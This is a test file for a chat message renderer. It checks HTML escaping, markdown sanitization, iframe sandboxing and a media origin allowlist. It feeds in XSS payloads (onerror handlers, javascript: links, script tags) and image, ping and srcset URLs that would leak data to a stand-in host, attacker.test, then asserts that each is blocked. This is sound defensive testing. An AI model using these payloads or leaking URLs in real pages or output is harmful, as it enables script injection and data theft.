// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { BLOCK_END, BLOCK_START } from './block-parser.js';
import { createMarkdownRenderer } from './markdown.js';
import { createMediaPolicy } from './media-policy.js';
import { createMessageRenderer } from './message-renderer.js';

function setup(): { container: HTMLElement; push: (t: string) => void; end: () => void } {
  const container = document.createElement('div');
  document.body.append(container);
  const media = createMediaPolicy('http://localhost/', ['https://example.com']);
  const renderer = createMessageRenderer({ container, doc: document, baseUrl: 'http://localhost/', renderMarkdown: createMarkdownRenderer(window, media, 'http://localhost/'), media });
  return { container, push: renderer.push, end: renderer.end };
}

const block = (value: unknown): string => `${BLOCK_START}${JSON.stringify(value)}${BLOCK_END}`;

describe('createMessageRenderer', () => {
  it('shows HTML in the answer text as the characters typed, never as markup', () => {
    const { container, push, end } = setup();
    push('<img src=x onerror="window.pwned=1">');
    push(' <b>bold</b>');
    end();
    expect(container.querySelector('img, b')).toBeNull();
    expect(container.textContent).toBe('<img src=x onerror="window.pwned=1"> <b>bold</b>');
  });

  it('renders the answer text as markdown: headings, lists, tables, links and highlighted code with Copy', () => {
    const { container, push, end } = setup();
    const answer = '## Plan\n\n- one\n- **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[docs](https://example.com/docs)\n\n```js\nconst x = 1;\n```\n';
    for (const token of answer.match(/.{1,3}/gs)!) push(token);
    end();
    expect(container.querySelector('h2')?.textContent).toBe('Plan');
    expect(container.querySelectorAll('li')).toHaveLength(2);
    expect(container.querySelector('table td')?.textContent).toBe('1');
    expect(container.querySelector('a')?.getAttribute('rel')).toContain('noopener');
    const code = container.querySelector('[data-testid="code-block"] pre code');
    expect(code?.textContent).toBe('const x = 1;\n');
    expect(code?.querySelector('.hljs-keyword')?.textContent).toBe('const');
    expect(container.querySelector('[data-testid="code-copy"]')?.textContent).toBe('Copy');
  });

  it('closes an open code fence while streaming instead of showing the backticks', () => {
    const container = document.createElement('div');
    const media = createMediaPolicy('http://localhost/', []);
    const renderer = createMessageRenderer({ container, doc: document, baseUrl: 'http://localhost/', renderMarkdown: createMarkdownRenderer(window, media, 'http://localhost/'), media, renderIntervalMs: 0 });
    renderer.push('Code:\n```py\nprint(1)');
    expect(container.querySelector('pre code')?.textContent).toBe('print(1)\n');
    expect(container.textContent).not.toContain('```');
    expect(renderer.source()).toBe('Code:\n```py\nprint(1)');
  });

  it('sanitizes markdown: no event handlers, no javascript: links, no scripts or styles', () => {
    const { container, push, end } = setup();
    push(block({ type: 'markdown', content: '# Title\n\n<img src=x onerror="alert(1)"> [click](javascript:alert(1)) <script>alert(2)</script> <span style="position:fixed">x</span> [ok](https://example.com)' }));
    end();
    expect(container.querySelector('h1')?.textContent).toBe('Title');
    expect(container.querySelector('script')).toBeNull();
    expect(container.querySelector('[onerror]')).toBeNull();
    expect(container.querySelector('[style]')).toBeNull();
    const hrefs = [...container.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs.filter((href) => href?.toLowerCase().includes('javascript'))).toEqual([]);
    expect(hrefs).toContain('https://example.com');
    expect(container.querySelector('a[href^="https"]')?.getAttribute('rel')).toContain('noopener');
  });

  it('puts HTML only in a scripts-only sandboxed frame fetched from the server, and hands it over once', async () => {
    const { container, push, end } = setup();
    push(block({ type: 'html', content: '<script>parent.document.title="pwned"</script><p>hi</p>' }));
    end();
    const frame = container.querySelector('iframe')!;
    expect(frame.getAttribute('sandbox')).toBe('allow-scripts');
    expect(frame.getAttribute('srcdoc')).toBeNull();
    expect(frame.src).toBe('http://localhost/sandbox-frame?media=https%3A%2F%2Fexample.com');
    expect(container.querySelector('p')).toBeNull();
    const posted: unknown[] = [];
    const child = frame.contentWindow!;
    child.postMessage = ((message: unknown) => posted.push(message)) as Window['postMessage'];
    const ready = (): void => void window.dispatchEvent(new MessageEvent('message', { data: { switchboardFrameReady: true }, source: child }));
    ready();
    ready();
    expect(posted).toHaveLength(1);
    expect((posted[0] as { switchboardFrameHtml: string }).switchboardFrameHtml).toContain('<p>hi</p>');
    // A message from anywhere else gets nothing.
    window.dispatchEvent(new MessageEvent('message', { data: { switchboardFrameReady: true }, source: window }));
    expect(posted).toHaveLength(1);
  });

  it('pretty-prints JSON in a collapsible details element', () => {
    const { container, push, end } = setup();
    push(block({ type: 'json', content: { a: [1, 2] } }));
    end();
    expect(container.querySelector('details')?.open).toBe(true);
    expect(container.querySelector('pre')?.textContent).toBe('{\n  "a": [\n    1,\n    2\n  ]\n}');
  });

  it('renders image and video from allowed origins with captions', () => {
    const { container, push, end } = setup();
    push(block({ type: 'image', content: { src: 'https://example.com/a.png', alt: 'A chart' } }));
    push(block({ type: 'video', content: { src: 'https://example.com/v.mp4', alt: 'Clip', additional: 'Demo clip' } }));
    push(block({ type: 'image', content: { src: '/same-origin.png' } }));
    end();
    expect([...container.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual(['https://example.com/a.png', 'http://localhost/same-origin.png']);
    expect(container.querySelector('img')?.alt).toBe('A chart');
    expect(container.querySelector('video')?.getAttribute('src')).toBe('https://example.com/v.mp4');
    expect([...container.querySelectorAll('figcaption')].map((c) => c.textContent)).toEqual(['A chart', 'Clip — Demo clip']);
    expect(container.querySelector('[data-testid="blocked-media"]')).toBeNull();
  });

  it('shows the address and a Load button instead of media from an origin not listed', () => {
    const { container, push, end } = setup();
    push(block({ type: 'image', content: { src: 'https://attacker.test/x.png?d=secret', alt: 'chart' } }));
    push(block({ type: 'video', content: { src: 'http://example.com/v.mp4' } }));
    end();
    expect(container.querySelector('img, video, iframe')).toBeNull();
    const blocked = [...container.querySelectorAll('[data-testid="blocked-media"]')];
    expect(blocked.map((box) => box.querySelector('[data-testid="blocked-media-url"]')?.textContent)).toEqual(['https://attacker.test/x.png?d=secret', 'http://example.com/v.mp4']);
    (blocked[0]!.querySelector('[data-testid="media-load"]') as HTMLButtonElement).click();
    const frame = container.querySelector('iframe')!;
    expect(frame.getAttribute('sandbox')).toBe('allow-scripts');
    expect(new URL(frame.src).searchParams.get('media')).toBe('https://example.com,https://attacker.test');
    expect(container.querySelector('img')).toBeNull();
  });

  it('never emits an <img> for a markdown image outside the allowlist, nor other fetching markup', () => {
    const { container, push, end } = setup();
    push(
      block({
        type: 'markdown',
        content:
          '![leak](https://attacker.test/?d=1) ![ok](https://example.com/ok.png) ![inline](data:image/png;base64,iVBORw0KGgo=)\n\n' +
          '<img src="https://attacker.test/raw.png" data-sb-blocked-src="https://example.com/x"> <img srcset="https://attacker.test/s.png 1x"> ' +
          '<video src="https://attacker.test/v.mp4" poster="https://attacker.test/p.png"></video> <table background="https://attacker.test/b.png"><tr><td>t</td></tr></table> ' +
          '<svg><image href="https://attacker.test/svg.png"></image></svg> <a href="https://example.com" ping="https://attacker.test/ping">l</a>',
      }),
    );
    end();
    const html = container.innerHTML;
    const srcs = [...container.querySelectorAll('img')].map((img) => img.getAttribute('src'));
    expect(srcs).toEqual(['https://example.com/ok.png', 'data:image/png;base64,iVBORw0KGgo=']);
    expect(container.querySelectorAll('[srcset], [poster], [background], [ping], video, svg, image')).toHaveLength(0);
    expect([...container.querySelectorAll('[data-testid="blocked-media-url"]')].map((u) => u.textContent)).toEqual(['https://attacker.test/?d=1', 'https://attacker.test/raw.png']);
    expect(html).not.toMatch(/\ssrc="https:\/\/attacker/);
  });

  it('shows a visible error box for invalid JSON and for a forbidden source', () => {
    const { container, push, end } = setup();
    push(`${BLOCK_START}{not json${BLOCK_END}`);
    push(block({ type: 'image', content: { src: 'javascript:alert(1)' } }));
    end();
    const errors = container.querySelectorAll('[data-testid="block-error"]');
    expect(errors).toHaveLength(2);
    expect(errors[0]?.getAttribute('role')).toBe('alert');
    expect(container.querySelector('img')).toBeNull();
  });

  it('keeps text flowing around a block split across tokens', () => {
    const { container, push, end } = setup();
    for (const ch of `Before ${block({ type: 'json', content: 1 })} after`) push(ch);
    end();
    expect(container.firstChild?.textContent?.trim()).toBe('Before');
    expect(container.lastChild?.textContent?.trim()).toBe('after');
    expect(container.querySelectorAll('.block')).toHaveLength(1);
  });
});
